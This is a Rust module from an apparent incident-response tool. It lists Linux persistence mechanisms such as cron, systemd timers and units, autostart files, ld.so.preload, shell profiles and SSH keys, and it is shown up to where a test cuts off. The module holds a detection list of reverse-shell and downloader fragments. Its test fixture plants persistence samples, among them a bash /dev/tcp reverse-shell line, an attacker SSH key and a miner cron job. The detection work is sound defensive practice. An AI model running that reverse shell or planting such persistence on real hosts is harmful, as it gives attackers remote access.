//! scheduledtasks (cron, anacron, systemd timers), startupfolders (XDG autostart) and
//! persistence (every autostart mechanism we know, in one list).
//!
//! Everything here is read from files below `host_root`; every path in a record is a
//! device path.

use std::collections::BTreeMap;

use liveresponse_api::command::Invocation;
use serde::Serialize;
use sha2::Digest;

use super::hostfs::{Accounts, Home, HostFs, file_name, join};
use super::system::{
    SYSTEM_UNIT_DIRS, Unit, enabled_links, find_unit, load_unit, timer_schedule, timer_target,
    unit_files, unit_of_link,
};
use super::to_records;
use crate::provider::{CommandResult, ExecContext, ExecError};

// ---------------------------------------------------------------- scheduled tasks

#[derive(Serialize, Debug, Clone)]
#[serde(rename_all = "camelCase")]
pub(super) struct TaskRecord {
    /// The crontab's file name (the user for user crontabs), the script's name for
    /// cron.daily and friends, the timer's unit name.
    name: String,
    schedule: String,
    command: Option<String>,
    user: Option<String>,
    /// Device path of the file that defines it.
    source: String,
    /// cron, cron-periodic, anacron or systemd-timer.
    kind: &'static str,
    /// Line in `source`, for cron entries.
    #[serde(skip_serializing_if = "Option::is_none")]
    line: Option<usize>,
    /// The unit a timer starts.
    #[serde(skip_serializing_if = "Option::is_none")]
    unit: Option<String>,
}

pub(super) fn scheduledtasks(
    ctx: &ExecContext,
    inv: &Invocation,
) -> Result<CommandResult, ExecError> {
    let hfs = HostFs::of(ctx);
    let mut tasks = cron_tasks(&hfs);
    ctx.check()?;
    tasks.extend(timer_tasks(&hfs));
    if let Some(wanted) = inv.get("name") {
        tasks.retain(|t| {
            t.name.eq_ignore_ascii_case(wanted)
                || t.source == wanted
                || t.name
                    .strip_suffix(".timer")
                    .is_some_and(|n| n.eq_ignore_ascii_case(wanted))
        });
        if tasks.is_empty() {
            return Err(ExecError::NotFound(format!(
                "no scheduled task named {wanted}"
            )));
        }
    }
    sort_tasks(&mut tasks);
    Ok(CommandResult::with_records(to_records(&tasks)?))
}

fn sort_tasks(tasks: &mut [TaskRecord]) {
    tasks.sort_by(|a, b| (&a.source, a.line, &a.name).cmp(&(&b.source, b.line, &b.name)));
}

const CRON_PERIODS: &[(&str, &str)] = &[
    ("/etc/cron.hourly", "@hourly"),
    ("/etc/cron.daily", "@daily"),
    ("/etc/cron.weekly", "@weekly"),
    ("/etc/cron.monthly", "@monthly"),
];

/// User crontab directories: Debian, Red Hat, SUSE.
const USER_CRONTAB_DIRS: &[&str] = &[
    "/var/spool/cron/crontabs",
    "/var/spool/cron",
    "/var/spool/cron/tabs",
];

fn cron_tasks(hfs: &HostFs) -> Vec<TaskRecord> {
    let mut tasks = Vec::new();
    let mut system_tabs = vec!["/etc/crontab".to_owned()];
    system_tabs.extend(hfs.files_in("/etc/cron.d"));
    for path in system_tabs {
        if let Ok(text) = hfs.read_to_string(&path) {
            tasks.extend(parse_crontab(&text, &path, None));
        }
    }
    for dir in USER_CRONTAB_DIRS {
        for path in hfs.files_in(dir) {
            let user = file_name(&path).to_owned();
            if let Ok(text) = hfs.read_to_string(&path) {
                tasks.extend(parse_crontab(&text, &path, Some(&user)));
            }
        }
    }
    for (dir, schedule) in CRON_PERIODS {
        for path in hfs.files_in(dir) {
            let name = file_name(&path).to_owned();
            // Packages ship these to keep the folder; run-parts skips them.
            if name.starts_with('.') {
                continue;
            }
            tasks.push(TaskRecord {
                name,
                schedule: (*schedule).to_owned(),
                command: Some(path.clone()),
                user: Some("root".to_owned()),
                source: path,
                kind: "cron-periodic",
                line: None,
                unit: None,
            });
        }
    }
    if let Ok(text) = hfs.read_to_string("/etc/anacrontab") {
        tasks.extend(parse_anacrontab(&text, "/etc/anacrontab"));
    }
    tasks
}

/// Splits off `n` whitespace-separated words and returns them with the untouched rest,
/// so a command keeps its own spacing.
fn split_words(line: &str, n: usize) -> Option<(Vec<&str>, &str)> {
    let mut words = Vec::with_capacity(n);
    let mut rest = line.trim_start();
    for _ in 0..n {
        let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
        if end == 0 {
            return None;
        }
        words.push(&rest[..end]);
        rest = rest[end..].trim_start();
    }
    Some((words, rest))
}

/// `NAME=value`, with blanks allowed around the `=` (cron's `load_env`): a variable, not a
/// job, whatever the value looks like.
fn is_variable(line: &str) -> bool {
    let name_end = line
        .find(|c: char| c == '=' || c.is_whitespace())
        .unwrap_or(line.len());
    name_end > 0 && line[name_end..].trim_start().starts_with('=')
}

/// A crontab: system ones (`user` None) name the user in the sixth field, user ones are
/// the user's. Comments and `VAR=value` lines are skipped.
pub(super) fn parse_crontab(text: &str, source: &str, user: Option<&str>) -> Vec<TaskRecord> {
    let name = file_name(source).to_owned();
    let mut tasks = Vec::new();
    for (index, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let schedule_words = if line.starts_with('@') { 1 } else { 5 };
        let user_words = usize::from(user.is_none());
        if is_variable(line) {
            continue;
        }
        let Some((words, command)) = split_words(line, schedule_words + user_words) else {
            continue;
        };
        if command.is_empty() {
            continue;
        }
        let task_user = match user {
            Some(user) => user.to_owned(),
            None => words[schedule_words].to_owned(),
        };
        tasks.push(TaskRecord {
            name: name.clone(),
            schedule: words[..schedule_words].join(" "),
            command: Some(command.to_owned()),
            user: Some(task_user),
            source: source.to_owned(),
            kind: "cron",
            line: Some(index + 1),
            unit: None,
        });
    }
    tasks
}

/// `period delay job-identifier command`.
pub(super) fn parse_anacrontab(text: &str, source: &str) -> Vec<TaskRecord> {
    let mut tasks = Vec::new();
    for (index, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        if is_variable(line) {
            continue;
        }
        let Some((words, command)) = split_words(line, 3) else {
            continue;
        };
        if command.is_empty() {
            continue;
        }
        let period = words[0];
        let schedule = match period {
            "1" => "@daily".to_owned(),
            "7" => "@weekly".to_owned(),
            p if p.starts_with('@') => p.to_owned(),
            p => format!("every {p} days"),
        };
        tasks.push(TaskRecord {
            name: words[2].to_owned(),
            schedule,
            command: Some(command.to_owned()),
            user: Some("root".to_owned()),
            source: source.to_owned(),
            kind: "anacron",
            line: Some(index + 1),
            unit: None,
        });
    }
    tasks
}

fn timer_tasks(hfs: &HostFs) -> Vec<TaskRecord> {
    unit_files(hfs, ".timer")
        .into_iter()
        // A template timer runs nothing until instantiated; a masked one is empty.
        .filter(|(name, _)| !name.contains("@."))
        .filter_map(|(name, path)| {
            let timer = load_unit(hfs, &path);
            if !timer.has_section("Timer") {
                return None;
            }
            let target = timer_target(&timer, &name);
            let service = find_unit(hfs, &target).map(|p| load_unit(hfs, &p));
            Some(TaskRecord {
                schedule: timer_schedule(&timer),
                command: service.as_ref().and_then(Unit::exec_start),
                user: Some(
                    service
                        .as_ref()
                        .and_then(|s| s.get("Service", "User"))
                        .unwrap_or("root")
                        .to_owned(),
                ),
                name,
                source: path,
                kind: "systemd-timer",
                line: None,
                unit: Some(target),
            })
        })
        .collect()
}

// ---------------------------------------------------------------- startup folders

#[derive(Serialize, Debug, Clone)]
#[serde(rename_all = "camelCase")]
struct StartupRecord {
    /// Device path of the .desktop file.
    location: String,
    name: String,
    /// What it starts: the Exec= line.
    target: Option<String>,
    /// The user whose session starts it; none for system-wide entries.
    user: Option<String>,
    /// False when Hidden=true or X-GNOME-Autostart-enabled=false switch it off.
    enabled: bool,
}

pub(super) fn startupfolders(ctx: &ExecContext) -> Result<CommandResult, ExecError> {
    let hfs = HostFs::of(ctx);
    let accounts = Accounts::load(&hfs);
    let mut rows = autostart_entries(&hfs, &accounts.homes(&hfs));
    rows.sort_by(|a, b| a.location.cmp(&b.location));
    Ok(CommandResult::with_records(to_records(&rows)?))
}

fn autostart_entries(hfs: &HostFs, homes: &[Home]) -> Vec<StartupRecord> {
    let mut folders: Vec<(String, Option<String>)> = vec![("/etc/xdg/autostart".to_owned(), None)];
    folders.extend(
        homes
            .iter()
            .map(|h| (join(&h.path, ".config/autostart"), Some(h.user.clone()))),
    );
    let mut rows = Vec::new();
    for (folder, user) in folders {
        for path in hfs.files_in(&folder) {
            if !path.ends_with(".desktop") {
                continue;
            }
            let Ok(text) = hfs.read_to_string(&path) else {
                continue;
            };
            let entry = Unit::parse(&text);
            let get = |key| entry.get("Desktop Entry", key);
            let hidden = get("Hidden").is_some_and(|v| v.eq_ignore_ascii_case("true"));
            let disabled =
                get("X-GNOME-Autostart-enabled").is_some_and(|v| v.eq_ignore_ascii_case("false"));
            rows.push(StartupRecord {
                name: get("Name")
                    .map(str::to_owned)
                    .unwrap_or_else(|| file_name(&path).trim_end_matches(".desktop").to_owned()),
                target: get("Exec").map(str::to_owned),
                user: user.clone(),
                enabled: !hidden && !disabled,
                location: path,
            });
        }
    }
    rows
}

// ---------------------------------------------------------------- persistence

#[derive(Serialize, Debug, Clone)]
#[serde(rename_all = "camelCase")]
struct PersistenceRecord {
    /// systemd, systemd-user, cron, rc.local, shell-profile, ld.so.preload,
    /// ssh-authorized-keys or xdg-autostart.
    mechanism: &'static str,
    name: String,
    /// Device path of the file where it was found.
    location: String,
    command: Option<String>,
    user: Option<String>,
    /// Mechanism-specific facts (the link of an enabled unit, a key's fingerprint...).
    #[serde(flatten)]
    details: BTreeMap<&'static str, serde_json::Value>,
}

impl PersistenceRecord {
    fn new(mechanism: &'static str, name: impl Into<String>, location: impl Into<String>) -> Self {
        PersistenceRecord {
            mechanism,
            name: name.into(),
            location: location.into(),
            command: None,
            user: None,
            details: BTreeMap::new(),
        }
    }

    fn detail(mut self, key: &'static str, value: impl Serialize) -> Self {
        if let Ok(value) = serde_json::to_value(value)
            && !value.is_null()
        {
            self.details.insert(key, value);
        }
        self
    }
}

pub(super) fn persistence(ctx: &ExecContext) -> Result<CommandResult, ExecError> {
    let hfs = HostFs::of(ctx);
    let accounts = Accounts::load(&hfs);
    let homes = accounts.homes(&hfs);
    let mut rows = Vec::new();

    rows.extend(systemd_units(&hfs, &homes));
    ctx.check()?;
    rows.extend(cron_tasks(&hfs).into_iter().map(|t| {
        PersistenceRecord {
            command: t.command,
            user: t.user,
            ..PersistenceRecord::new("cron", t.name, t.source)
        }
        .detail("schedule", t.schedule)
        .detail("kind", t.kind)
        .detail("line", t.line)
    }));
    ctx.check()?;
    rows.extend(rc_local(&hfs));
    rows.extend(ld_preload(&hfs));
    rows.extend(shell_profiles(&hfs, &homes));
    ctx.check()?;
    rows.extend(authorized_keys(&hfs, &homes));
    rows.extend(autostart_entries(&hfs, &homes).into_iter().map(|s| {
        PersistenceRecord {
            command: s.target,
            user: s.user,
            ..PersistenceRecord::new("xdg-autostart", s.name, s.location)
        }
        .detail("enabled", s.enabled)
    }));

    rows.sort_by(|a, b| {
        (a.mechanism, &a.location, &a.name).cmp(&(b.mechanism, &b.location, &b.name))
    });
    Ok(CommandResult::with_records(to_records(&rows)?))
}

/// Where systemd looks for user units shared by all users (besides ~/.config/systemd/user).
const USER_UNIT_DIRS: &[&str] = &[
    "/etc/systemd/user",
    "/usr/local/lib/systemd/user",
    "/lib/systemd/user",
    "/usr/lib/systemd/user",
];

/// Units enabled at boot (system) or at login (per user): the links `systemctl enable`
/// makes, and that an attacker can make by hand.
fn systemd_units(hfs: &HostFs, homes: &[Home]) -> Vec<PersistenceRecord> {
    // Vendor directories too: a package's static enablement looks the same as an
    // attacker's link dropped there, and only the analyst can tell them apart.
    let mut sources: Vec<(&'static str, String, Option<String>)> = SYSTEM_UNIT_DIRS
        .iter()
        .map(|d| ("systemd", (*d).to_owned(), None))
        .collect();
    sources.extend(
        USER_UNIT_DIRS
            .iter()
            .map(|d| ("systemd-user", (*d).to_owned(), None)),
    );
    sources.extend(homes.iter().map(|h| {
        (
            "systemd-user",
            join(&h.path, ".config/systemd/user"),
            Some(h.user.clone()),
        )
    }));
    let mut rows = Vec::new();
    // With a merged /usr, /lib/systemd/system and /usr/lib/systemd/system are one folder.
    let mut seen_dirs = std::collections::HashSet::new();
    for (mechanism, dir, owner) in sources {
        let Ok(canonical_dir) = hfs.canonical(&dir) else {
            continue;
        };
        if !seen_dirs.insert(canonical_dir) {
            continue;
        }
        for link in enabled_links(hfs, &dir) {
            let file = unit_of_link(hfs, &link).or_else(|| {
                // User units live in their own directories.
                let local = join(&dir, &link.unit);
                hfs.exists(&local).then_some(local)
            });
            let unit = file.as_ref().map(|f| load_unit(hfs, f));
            let (command, user, schedule) = match &unit {
                Some(timer) if link.unit.ends_with(".timer") => {
                    let target = timer_target(timer, &link.unit);
                    let service = find_unit(hfs, &target)
                        .or_else(|| {
                            let local = join(&dir, &target);
                            hfs.exists(&local).then_some(local)
                        })
                        .map(|p| load_unit(hfs, &p));
                    (
                        service.as_ref().and_then(Unit::exec_start),
                        service
                            .as_ref()
                            .and_then(|s| s.get("Service", "User").map(str::to_owned)),
                        Some(timer_schedule(timer)),
                    )
                }
                Some(service) => (
                    service.exec_start(),
                    service.get("Service", "User").map(str::to_owned),
                    None,
                ),
                None => (None, None, None),
            };
            let default_user = owner.clone().or_else(|| Some("root".to_owned()));
            rows.push(
                PersistenceRecord {
                    command,
                    user: user.or(default_user),
                    ..PersistenceRecord::new(
                        mechanism,
                        link.unit.clone(),
                        file.clone().unwrap_or_else(|| link.link.clone()),
                    )
                }
                .detail("link", &link.link)
                .detail("wantedBy", &link.wanted_by)
                .detail("schedule", schedule)
                .detail("unitFileMissing", file.is_none().then_some(true)),
            );
        }
    }
    rows
}

fn rc_local(hfs: &HostFs) -> Vec<PersistenceRecord> {
    let path = "/etc/rc.local";
    let Ok(text) = hfs.read_to_string(path) else {
        return Vec::new();
    };
    // rc-local.service runs it only when it is executable.
    let executable = hfs
        .metadata(path)
        .is_ok_and(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o111 != 0);
    text.lines()
        .enumerate()
        .map(|(i, l)| (i + 1, l.trim()))
        .filter(|(_, l)| !l.is_empty() && !l.starts_with('#') && *l != "exit 0")
        .map(|(line, l)| {
            PersistenceRecord {
                command: Some(l.to_owned()),
                user: Some("root".to_owned()),
                ..PersistenceRecord::new("rc.local", "rc.local", path)
            }
            .detail("line", line)
            .detail("executable", executable)
        })
        .collect()
}

fn ld_preload(hfs: &HostFs) -> Vec<PersistenceRecord> {
    let path = "/etc/ld.so.preload";
    let Ok(text) = hfs.read_to_string(path) else {
        return Vec::new();
    };
    text.lines()
        .map(|l| l.split('#').next().unwrap_or("").trim())
        .filter(|l| !l.is_empty())
        // One line may list several libraries, separated by spaces or colons.
        .flat_map(|l| l.split([' ', '\t', ':']).filter(|s| !s.is_empty()))
        .map(|lib| {
            PersistenceRecord {
                command: Some(lib.to_owned()),
                ..PersistenceRecord::new("ld.so.preload", file_name(lib), path)
            }
            .detail("exists", hfs.exists(lib))
        })
        .collect()
}

/// Startup files of shells, system-wide then per user.
const SYSTEM_PROFILES: &[&str] = &[
    "/etc/profile",
    "/etc/bash.bashrc",
    "/etc/bashrc",
    "/etc/environment",
    "/etc/zsh/zshenv",
    "/etc/zsh/zprofile",
    "/etc/zsh/zshrc",
    "/etc/zshrc",
];
const USER_PROFILES: &[&str] = &[
    ".profile",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".zshenv",
    ".zprofile",
    ".zshrc",
    ".zlogin",
];

/// Fragments that rarely belong in a shell startup file but often in a backdoor:
/// downloaders, reverse shells, encoded payloads, preloading, hiding in /tmp.
const SUSPICIOUS: &[&str] = &[
    "curl ",
    "wget ",
    "/dev/tcp/",
    "/dev/udp/",
    "nc ",
    "ncat ",
    "netcat",
    "socat",
    "base64",
    "python -c",
    "python3 -c",
    "perl -e",
    "ruby -e",
    "php -r",
    "bash -i",
    "sh -i",
    "mkfifo",
    "nohup",
    "ld_preload",
    "prompt_command",
    "/tmp/",
    "/dev/shm/",
    "/var/tmp/",
    "chmod +x",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "alias sudo",
    "alias ssh",
    "xxd ",
    "openssl ",
];
const SHOWN_SUSPICIOUS: usize = 20;

/// One record per startup file, not per line: stock files are long and alike. It counts
/// the effective lines, gives a sha256 to compare with a known-good copy, and quotes the
/// lines that look like a backdoor (the first one as `command`).
fn shell_profiles(hfs: &HostFs, homes: &[Home]) -> Vec<PersistenceRecord> {
    let mut files: Vec<(String, Option<String>)> = SYSTEM_PROFILES
        .iter()
        .map(|p| ((*p).to_owned(), None))
        .collect();
    files.extend(
        hfs.files_in("/etc/profile.d")
            .into_iter()
            .map(|p| (p, None)),
    );
    for home in homes {
        for name in USER_PROFILES {
            files.push((join(&home.path, name), Some(home.user.clone())));
        }
    }
    let mut rows = Vec::new();
    for (path, user) in files {
        // No type check here: the read refuses FIFOs and devices itself, on the opened
        // descriptor, and says so in the warnings.
        let Ok(text) = hfs.read_to_string(&path) else {
            continue;
        };
        let effective: Vec<&str> = text
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty() && !l.starts_with('#'))
            .collect();
        let suspicious: Vec<&str> = effective
            .iter()
            .copied()
            .filter(|l| {
                let lower = l.to_lowercase();
                SUSPICIOUS.iter().any(|s| lower.contains(s))
            })
            .collect();
        rows.push(
            PersistenceRecord {
                command: suspicious.first().map(|l| (*l).to_owned()),
                user: user.or_else(|| Some("all users".to_owned())),
                ..PersistenceRecord::new("shell-profile", file_name(&path), path.clone())
            }
            .detail("lines", effective.len())
            .detail("sha256", hex::encode(sha2::Sha256::digest(text.as_bytes())))
            .detail(
                "suspicious",
                suspicious
                    .iter()
                    .take(SHOWN_SUSPICIOUS)
                    .copied()
                    .collect::<Vec<_>>(),
            ),
        );
    }
    rows
}

fn authorized_keys(hfs: &HostFs, homes: &[Home]) -> Vec<PersistenceRecord> {
    let mut rows = Vec::new();
    for home in homes {
        for name in [".ssh/authorized_keys", ".ssh/authorized_keys2"] {
            let path = join(&home.path, name);
            let Ok(text) = hfs.read_to_string(&path) else {
                continue;
            };
            for (index, line) in text.lines().enumerate() {
                let Some(key) = parse_authorized_key(line) else {
                    continue;
                };
                rows.push(
                    PersistenceRecord {
                        command: key.forced_command.clone(),
                        user: Some(home.user.clone()),
                        ..PersistenceRecord::new(
                            "ssh-authorized-keys",
                            key.comment.clone().unwrap_or_else(|| key.key_type.clone()),
                            path.clone(),
                        )
                    }
                    .detail("keyType", &key.key_type)
                    .detail("fingerprint", &key.fingerprint)
                    .detail("options", &key.options)
                    .detail("line", index + 1),
                );
            }
        }
    }
    rows
}

#[derive(Debug, Clone, PartialEq)]
pub(super) struct AuthorizedKey {
    pub(super) key_type: String,
    /// `SHA256:...` as `ssh-keygen -l` prints it.
    pub(super) fingerprint: Option<String>,
    pub(super) comment: Option<String>,
    pub(super) options: Option<String>,
    pub(super) forced_command: Option<String>,
}

pub(super) fn is_key_type(word: &str) -> bool {
    word.starts_with("ssh-")
        || word.starts_with("ecdsa-sha2-")
        || word.starts_with("sk-ssh-")
        || word.starts_with("sk-ecdsa-")
}

/// `[options] type base64 [comment]`, where options may hold quoted spaces.
pub(super) fn parse_authorized_key(line: &str) -> Option<AuthorizedKey> {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return None;
    }
    let mut options = None;
    let mut rest = line;
    if !is_key_type(first_word(rest)) {
        let end = options_end(rest);
        options = Some(rest[..end].to_owned());
        rest = rest[end..].trim_start();
    }
    let (words, comment) = split_words(rest, 2)?;
    if !is_key_type(words[0]) {
        return None;
    }
    let forced_command = options.as_deref().and_then(forced_command);
    Some(AuthorizedKey {
        key_type: words[0].to_owned(),
        fingerprint: base64_decode(words[1]).map(|blob| {
            format!(
                "SHA256:{}",
                base64_encode_unpadded(&sha2::Sha256::digest(&blob))
            )
        }),
        comment: (!comment.is_empty()).then(|| comment.to_owned()),
        options,
        forced_command,
    })
}

fn first_word(text: &str) -> &str {
    text.split_whitespace().next().unwrap_or("")
}

/// Where the options field ends, as sshd finds it (`sshkey_advance_past_options`): the
/// first space or tab outside double quotes, where only `\"` is an escape.
fn options_end(text: &str) -> usize {
    let mut quoted = false;
    let mut chars = text.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        match c {
            '\\' if chars.peek().is_some_and(|&(_, next)| next == '"') => {
                chars.next();
            }
            '"' => quoted = !quoted,
            ' ' | '\t' if !quoted => return i,
            _ => {}
        }
    }
    text.len()
}

/// The value of the `command="..."` option, read as sshd reads options (auth-options.c):
/// one after another, so that text inside another option's quoted value (an
/// `environment="X=command=..."`) is never taken for it. A malformed list has none.
fn forced_command(options: &str) -> Option<String> {
    let mut rest = options;
    loop {
        let name_end = rest.find(['=', ',']).unwrap_or(rest.len());
        let name = &rest[..name_end];
        rest = &rest[name_end..];
        if let Some(value) = rest.strip_prefix('=') {
            let (value, after) = dequote(value)?;
            if name.eq_ignore_ascii_case("command") {
                return Some(value);
            }
            rest = after;
        }
        rest = rest.strip_prefix(',')?;
    }
}

/// A double-quoted option value and what follows it; `\"` is a quote, any other
/// backslash is itself (sshd's `opt_dequote`).
fn dequote(text: &str) -> Option<(String, &str)> {
    let body = text.strip_prefix('"')?;
    let mut value = String::new();
    let mut chars = body.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        match c {
            '\\' if chars.peek().is_some_and(|&(_, next)| next == '"') => {
                chars.next();
                value.push('"');
            }
            '"' => return Some((value, &body[i + 1..])),
            c => value.push(c),
        }
    }
    None
}

const BASE64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

pub(super) fn base64_decode(text: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(text.len() * 3 / 4);
    let mut acc = 0u32;
    let mut bits = 0u32;
    for c in text.trim_end_matches('=').bytes() {
        let v = BASE64.iter().position(|&b| b == c)?;
        acc = (acc << 6) | u32::try_from(v).ok()?;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push(u8::try_from((acc >> bits) & 0xff).ok()?);
        }
    }
    Some(out)
}

pub(super) fn base64_encode_unpadded(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        let chars = chunk.len() + 1;
        for i in 0..chars {
            let index = (n >> (18 - 6 * i)) & 0x3f;
            out.push(char::from(BASE64[index as usize]));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::symlink;

    use super::super::testutil::*;
    use super::*;

    /// A host with one planted item per mechanism.
    fn planted() -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(
            root,
            "/etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        );
        write(
            root,
            "/etc/systemd/system/evil.service",
            "[Unit]\nDescription=Evil\n[Service]\nExecStart=/tmp/evil\n[Install]\nWantedBy=multi-user.target\n",
        );
        std::fs::create_dir_all(root.join("etc/systemd/system/multi-user.target.wants")).unwrap();
        symlink(
            "../evil.service",
            root.join("etc/systemd/system/multi-user.target.wants/evil.service"),
        )
        .unwrap();
        write(
            root,
            "/usr/lib/systemd/system/backup.timer",
            "[Timer]\nOnCalendar=daily\nOnBootSec=15min\n[Install]\nWantedBy=timers.target\n",
        );
        write(
            root,
            "/usr/lib/systemd/system/backup.service",
            "[Service]\nExecStart=/usr/bin/backup --all\nUser=backup\n",
        );
        std::fs::create_dir_all(root.join("etc/systemd/system/timers.target.wants")).unwrap();
        symlink(
            "/lib/systemd/system/backup.timer",
            root.join("etc/systemd/system/timers.target.wants/backup.timer"),
        )
        .unwrap();
        write(
            root,
            "/etc/crontab",
            "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        );
        write(root, "/etc/cron.d/evil", "*/5 * * * * root /tmp/evil.sh\n");
        write(root, "/etc/cron.daily/logrotate", "#!/bin/sh\nlogrotate\n");
        write(root, "/etc/cron.daily/.placeholder", "");
        write(
            root,
            "/var/spool/cron/crontabs/alice",
            "# edit with crontab -e\nMAILTO=\"\"\n@reboot /home/alice/.x/miner --quiet\n",
        );
        write(
            root,
            "/usr/lib/systemd/system/vendor.service",
            "[Service]\nExecStart=/usr/sbin/vendord\n",
        );
        std::fs::create_dir_all(root.join("usr/lib/systemd/system/sysinit.target.wants")).unwrap();
        symlink(
            "../vendor.service",
            root.join("usr/lib/systemd/system/sysinit.target.wants/vendor.service"),
        )
        .unwrap();
        // A merged /usr: the same folder by a second name must not list it twice.
        symlink("usr/lib", root.join("lib")).unwrap();
        write(
            root,
            "/etc/ld.so.preload",
            "# preload\n/usr/lib/libevil.so\n",
        );
        write(
            root,
            "/root/.ssh/authorized_keys",
            &format!(
                "# keys\n{KEY}\ncommand=\"/usr/bin/backup --serve\",no-pty {KEY_TYPE} {KEY_BLOB}\n"
            ),
        );
        write(
            root,
            "/etc/rc.local",
            "#!/bin/sh -e\n# comment\n/opt/evil &\nexit 0\n",
        );
        write(
            root,
            "/home/bob/.config/autostart/x.desktop",
            "[Desktop Entry]\nType=Application\nName=Updater\nExec=/home/bob/.local/bin/x --daemon\n",
        );
        write(
            root,
            "/etc/xdg/autostart/off.desktop",
            "[Desktop Entry]\nName=Off\nExec=/usr/bin/off\nHidden=true\n",
        );
        write(
            root,
            "/home/bob/.bashrc",
            "# ~/.bashrc\nalias ll='ls -l'\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
        );
        write(
            root,
            "/etc/profile",
            "if [ \"$PS1\" ]; then\n  PS1='$ '\nfi\n",
        );
        dir
    }

    const KEY_TYPE: &str = "ssh-ed25519";
    const KEY_BLOB: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIM04TZdf3o3Xzxd9DCb7m39CzjPEgu8uVOMXKk0asDKN";
    const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM04TZdf3o3Xzxd9DCb7m39CzjPEgu8uVOMXKk0asDKN attacker@evil";

    fn find<'a>(
        records: &'a [serde_json::Value],
        mechanism: &str,
        name: &str,
    ) -> &'a serde_json::Value {
        records
            .iter()
            .find(|r| r["mechanism"] == mechanism && r["name"] == name)
            .unwrap_or_else(|| panic!("no {mechanism} {name} in {records:#?}"))
    }

    #[test]
    fn persistence_finds_every_planted_item() {
        let dir = planted();
        let result = run(&ctx(dir.path()), "persistence", &[]).unwrap();
        assert_columns("persistence", &result);
        let r = &result.records;

        let evil = find(r, "systemd", "evil.service");
        assert_eq!(evil["location"], "/etc/systemd/system/evil.service");
        assert_eq!(evil["command"], "/tmp/evil");
        assert_eq!(evil["user"], "root");
        assert_eq!(
            evil["link"],
            "/etc/systemd/system/multi-user.target.wants/evil.service"
        );
        assert_eq!(evil["wantedBy"], "multi-user.target");

        let timer = find(r, "systemd", "backup.timer");
        assert_eq!(timer["location"], "/usr/lib/systemd/system/backup.timer");
        assert_eq!(timer["command"], "/usr/bin/backup --all");
        assert_eq!(timer["user"], "backup");
        assert_eq!(timer["schedule"], "OnCalendar=daily; OnBootSec=15min");

        let vendor = find(r, "systemd", "vendor.service");
        assert_eq!(vendor["location"], "/usr/lib/systemd/system/vendor.service");
        assert_eq!(vendor["wantedBy"], "sysinit.target");
        assert_eq!(vendor["command"], "/usr/sbin/vendord");
        assert_eq!(
            r.iter().filter(|x| x["name"] == "vendor.service").count(),
            1
        );

        let cron = find(r, "cron", "evil");
        assert_eq!(cron["location"], "/etc/cron.d/evil");
        assert_eq!(cron["command"], "/tmp/evil.sh");
        assert_eq!(cron["user"], "root");
        assert_eq!(cron["schedule"], "*/5 * * * *");

        let alice = find(r, "cron", "alice");
        assert_eq!(alice["location"], "/var/spool/cron/crontabs/alice");
        assert_eq!(alice["user"], "alice");
        assert_eq!(alice["schedule"], "@reboot");
        assert_eq!(alice["command"], "/home/alice/.x/miner --quiet");

        let preload = find(r, "ld.so.preload", "libevil.so");
        assert_eq!(preload["location"], "/etc/ld.so.preload");
        assert_eq!(preload["command"], "/usr/lib/libevil.so");
        assert_eq!(preload["exists"], false);

        let key = find(r, "ssh-authorized-keys", "attacker@evil");
        assert_eq!(key["location"], "/root/.ssh/authorized_keys");
        assert_eq!(key["user"], "root");
        assert_eq!(key["keyType"], "ssh-ed25519");
        assert_eq!(
            key["fingerprint"],
            "SHA256:tWF7gYb8A0eb3yhh0lOJAgMtBdXKg75GFVwgLIrZWUA"
        );
        let forced = find(r, "ssh-authorized-keys", "ssh-ed25519");
        assert_eq!(forced["command"], "/usr/bin/backup --serve");
        assert_eq!(forced["fingerprint"], key["fingerprint"]);

        let rc = find(r, "rc.local", "rc.local");
        assert_eq!(rc["location"], "/etc/rc.local");
        assert_eq!(rc["command"], "/opt/evil &");
        assert_eq!(rc["executable"], false);
        assert_eq!(r.iter().filter(|x| x["mechanism"] == "rc.local").count(), 1);

        let autostart = find(r, "xdg-autostart", "Updater");
        assert_eq!(
            autostart["location"],
            "/home/bob/.config/autostart/x.desktop"
        );
        assert_eq!(autostart["command"], "/home/bob/.local/bin/x --daemon");
        assert_eq!(autostart["user"], "bob");

        let bashrc = find(r, "shell-profile", ".bashrc");
        assert_eq!(bashrc["location"], "/home/bob/.bashrc");
        assert_eq!(bashrc["user"], "bob");
        assert_eq!(bashrc["command"], "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        assert_eq!(bashrc["lines"], 2);
        let profile = find(r, "shell-profile", "profile");
        assert!(profile["command"].is_null());
        assert_eq!(profile["suspicious"], serde_json::json!([]));

        // Sorted by mechanism, then location.
        let keys: Vec<(String, String)> = r
            .iter()
            .map(|x| {
                (
